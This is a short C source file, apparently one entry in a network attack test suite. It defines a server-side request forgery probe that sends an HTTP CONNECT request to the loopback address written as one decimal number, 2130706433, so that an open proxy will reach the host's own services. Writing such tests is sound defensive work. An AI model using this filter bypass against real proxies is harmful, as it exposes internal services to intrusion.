/* The same by one decimal number. */
#include "../attack.h"

#include "proxy.h"

ATTACK(NETWORK, "names", .gain = "a server of the host's, by an address written as one number",
       .source = "server-side request forgery (CWE-918)", .works = SOME_KERNELS,
       .needs = "an open proxy", .flags = NETWORKS)
{
	return proxy_canary("CONNECT 2130706433:%s HTTP/1.1\r\nHost: x\r\n\r\n", needed("port"));
}
